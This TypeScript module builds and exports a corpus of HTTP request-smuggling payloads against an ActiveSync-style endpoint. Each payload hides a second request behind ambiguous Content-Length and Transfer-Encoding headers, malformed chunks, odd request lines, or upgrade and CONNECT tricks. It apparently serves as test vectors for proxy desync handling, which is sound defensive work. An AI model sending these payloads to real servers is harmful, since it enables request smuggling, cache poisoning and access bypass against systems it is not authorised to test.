/** Bytes that a device sends in the hope that the proxy and the server read them as different requests. */
export interface Smuggled {
  readonly what: string;
  readonly bytes: string;
}

const PATH = '/Microsoft-Server-ActiveSync?Cmd=Sync&User=alice&DeviceId=ABC&DeviceType=iPhone';
const HIDDEN_PATH = PATH.replace('Cmd=Sync', 'Cmd=Hidden');
const LINE = `POST ${PATH} HTTP/1.1`;
const HIDDEN = `POST ${HIDDEN_PATH} HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n`;

function head(...lines: readonly string[]): string {
  return `${lines.join('\r\n')}\r\n\r\n`;
}

function chunked(text: string): string {
  return `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`;
}

/** Ways to write the length of a body, of which servers read some as a number and some as nothing. (RFC 9112 section 6.2) */
const lengths: readonly string[] = [
  'Content-Length: 0',
  `Content-Length: ${HIDDEN.length}`,
  'Content-Length: +0',
  'Content-Length: -0',
  'Content-Length: 00',
  'Content-Length: 0x0',
  'Content-Length: 0, 0',
  `Content-Length: 0, ${HIDDEN.length}`,
  'Content-Length: 0;a=b',
  'Content-Length: "0"',
  'Content-Length: 0 0',
  'Content-Length: \t0',
  'Content-Length: \x0b0',
  'Content-Length: \xa00',
  'Content-Length:',
  'Content-Length: 1e1',
  'Content-Length: 18446744073709551616',
  'Content-Length: ٠',
  'Content-Length : 0',
  ' Content-Length: 0',
  '\tContent-Length: 0',
  'Content_Length: 0',
  'Content-Length\0: 0',
  'Content-\r\n Length: 0',
  'X: a\rContent-Length: 0',
  'X: a\nContent-Length: 0',
  'X: a\r\n Content-Length: 0',
  'Connection: Content-Length\r\nContent-Length: 0',
];

/** Ways to write that a body comes in chunks. (RFC 9112 sections 6.1 and 7) */
const codings: readonly string[] = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding: CHUNKED',
  'transfer-encoding:chunked',
  'Transfer-Encoding: chunked ',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: \x0cchunked',
  'Transfer-Encoding: \xa0chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: chunk',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: identity',
  'Transfer-Encoding:',
  'Transfer-Encoding : chunked',
  ' Transfer-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding\0: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-\r\n Encoding: chunked',
  'X: a\rTransfer-Encoding: chunked',
  'X: a\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'TE: chunked',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
];

/** Chunks whose size, extension or end is read in more than one way. */
const chunks: readonly string[] = [
  '0\r\n\r\n',
  '000000000000000000\r\n\r\n',
  '0;a=b\r\n\r\n',
  '0;a="\r\n"\r\n\r\n',
  '0;\n\r\n\r\n',
  '0 \r\n\r\n',
  ' 0\r\n\r\n',
  '+0\r\n\r\n',
  '-0\r\n\r\n',
  '0x0\r\n\r\n',
  '0_0\r\n\r\n',
  '\r\n0\r\n\r\n',
  '0\n\n',
  '0\r\r',
  '0\r\n\n',
  '0\r\n\rX',
  'g\r\n\r\n',
  '\r\n\r\n',
  '3\r\nabcd\r\n0\r\n\r\n',
  '3\r\nabc0\r\n\r\n',
  '3\nabc\n0\n\n',
  '3;x\nabc\r\n0\r\n\r\n',
  'ffffffffffffffff3\r\nabc\r\n0\r\n\r\n',
  '10000000000000003\r\nabc\r\n0\r\n\r\n',
  '0\r\nContent-Length: 5\r\n\r\n',
  '0\r\nTransfer-Encoding: chunked\r\n\r\n',
  '0\r\nX : a\r\n\r\n',
  '0\r\nX: a\r\n b\r\n\r\n',
  '0\r\nX: a\n\r\n\r\n',
];

/** Request lines that are taken apart in more than one way. (RFC 9112 section 3) */
const lines: readonly string[] = [
  `POST  ${PATH} HTTP/1.1`,
  `POST\t${PATH}\tHTTP/1.1`,
  `POST ${PATH} HTTP/1.1 `,
  ` POST ${PATH} HTTP/1.1`,
  `POST ${PATH} a HTTP/1.1`,
  `POST ${PATH}\x00 HTTP/1.1`,
  `POST ${PATH}\rX HTTP/1.1`,
  `POST ${PATH} HTTP/1.1\nX: a`,
  `POST ${PATH} http/1.1`,
  `POST ${PATH} HTTP/01.1`,
  `POST ${PATH} HTTP/1.10`,
  `POST ${PATH} HTTP/1.2`,
  `POST ${PATH} HTTP/2.0`,
  `POST ${PATH} HTTP/0.9`,
  `POST ${PATH}`,
  `post ${PATH} HTTP/1.1`,
  `P\x00ST ${PATH} HTTP/1.1`,
  `SOURCE ${PATH} HTTP/1.1`,
  `POST http://other${PATH} HTTP/1.1`,
  `POST //other${PATH} HTTP/1.1`,
  `POST ${PATH}#${HIDDEN_PATH} HTTP/1.1`,
  `POST ${PATH}%0d%0aX:%20a HTTP/1.1`,
  'PRI * HTTP/2.0',
  `\r\n\r\nPOST ${PATH} HTTP/1.1`,
];

const others: readonly Smuggled[] = [
  {
    what: 'after the last one',
    bytes: head(LINE, 'Host: a', 'Connection: close', 'Content-Length: 0') + HIDDEN,
  },
  {
    what: 'HTTP/1.0 that stays',
    bytes: head(LINE.replace('1.1', '1.0'), 'Connection: keep-alive', 'Content-Length: 0') + HIDDEN,
  },
  {
    what: 'HTTP/1.0 with chunks',
    bytes:
      head(LINE.replace('1.1', '1.0'), 'Connection: keep-alive', 'Transfer-Encoding: chunked') +
      chunked(HIDDEN),
  },
  {
    what: 'a GET with a body',
    bytes: head(`GET ${PATH} HTTP/1.1`, 'Host: a', `Content-Length: ${HIDDEN.length}`) + HIDDEN,
  },
  {
    what: 'an OPTIONS in chunks',
    bytes: head(`OPTIONS ${PATH} HTTP/1.1`, 'Host: a', 'Transfer-Encoding: chunked') + chunked(HIDDEN),
  },
  {
    what: 'a HEAD with a body',
    bytes: head(`HEAD ${PATH} HTTP/1.1`, 'Host: a', `Content-Length: ${HIDDEN.length}`) + HIDDEN,
  },
  {
    what: 'an upgrade to h2c',
    bytes:
      head(
        LINE,
        'Host: a',
        'Connection: Upgrade, HTTP2-Settings',
        'Upgrade: h2c',
        'HTTP2-Settings: AAMAAABkAAQAAP__',
        'Content-Length: 0',
      ) + HIDDEN,
  },
  {
    what: 'an upgrade with a body',
    bytes:
      head(LINE, 'Host: a', 'Connection: Upgrade', 'Upgrade: websocket', `Content-Length: ${HIDDEN.length}`) +
      HIDDEN,
  },
  { what: 'a CONNECT with bytes behind it', bytes: head('CONNECT a:443 HTTP/1.1', 'Host: a:443') + HIDDEN },
  {
    what: 'an expectation',
    bytes: head(LINE, 'Host: a', 'Expect: 100-continue', `Content-Length: ${HIDDEN.length}`) + HIDDEN,
  },
  {
    what: 'an expectation of chunks',
    bytes: head(LINE, 'Host: a', 'Expect: 100-continue', 'Transfer-Encoding: chunked') + chunked(HIDDEN),
  },
  {
    what: 'an unknown expectation',
    bytes: head(LINE, 'Host: a', 'Expect: 200-ok', 'Content-Length: 0') + HIDDEN,
  },
  { what: 'two hosts', bytes: head(LINE, 'Host: a', 'Host: b', 'Content-Length: 0') + HIDDEN },
  { what: 'a host with a line', bytes: head(LINE, 'Host: a\r\n b', 'Content-Length: 0') + HIDDEN },
  { what: 'a field without a name', bytes: head(LINE, ': a', 'Content-Length: 0') + HIDDEN },
  { what: 'a field of a blank', bytes: head(LINE, ' ', 'Content-Length: 0') + HIDDEN },
  { what: 'an empty line of LF', bytes: `${LINE}\r\nHost: a\r\nContent-Length: 0\r\n\n${HIDDEN}` },
  { what: 'lines of LF', bytes: `${LINE}\nHost: a\nContent-Length: 0\n\n${HIDDEN}` },
  { what: 'lines of CR', bytes: `${LINE}\rHost: a\rContent-Length: 0\r\r${HIDDEN}` },
];

const after = (text: string): string =>
  text.replaceAll(/[^!-~ ]/g, (odd) => `%${odd.charCodeAt(0).toString(16)}`);

/** All of them: what is odd alone, and each length beside each coding, in both orders, over bodies of both kinds. */
export const smuggled: readonly Smuggled[] = [
  ...lengths.map((length) => ({ what: after(length), bytes: head(LINE, 'Host: a', length) + HIDDEN })),
  ...codings.flatMap((coding) => [
    { what: `${after(coding)} over chunks`, bytes: head(LINE, 'Host: a', coding) + chunked(HIDDEN) },
    { what: `${after(coding)} over none`, bytes: head(LINE, 'Host: a', coding) + HIDDEN },
  ]),
  ...codings.flatMap((coding) =>
    lengths.slice(0, 8).flatMap((length) => [
      {
        what: `${after(length)} | ${after(coding)}`,
        bytes: head(LINE, 'Host: a', length, coding) + chunked(HIDDEN),
      },
      {
        what: `${after(coding)} | ${after(length)}`,
        bytes: `${head(LINE, 'Host: a', coding, length)}0\r\n\r\n${HIDDEN}`,
      },
    ]),
  ),
  ...chunks.map((body) => ({
    what: `chunks ${after(body)}`,
    bytes: head(LINE, 'Host: a', 'Transfer-Encoding: chunked') + body + HIDDEN,
  })),
  ...lines.map((line) => ({ what: after(line), bytes: head(line, 'Host: a', 'Content-Length: 0') + HIDDEN })),
  ...others,
];
